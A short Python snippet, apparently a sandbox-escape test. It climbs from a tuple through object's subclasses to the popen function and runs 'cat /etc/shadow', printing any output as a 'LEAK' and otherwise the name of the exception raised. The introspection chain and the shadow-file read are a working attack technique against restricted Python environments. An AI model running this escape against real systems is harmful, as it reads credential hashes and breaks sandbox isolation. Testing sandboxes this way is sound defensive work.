# from a tuple to all classes; finds one that starts processes
try:
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            print("LEAK:", cls.__init__.__globals__["popen"]("cat /etc/shadow").read())
except Exception as error:
    print(type(error).__name__)
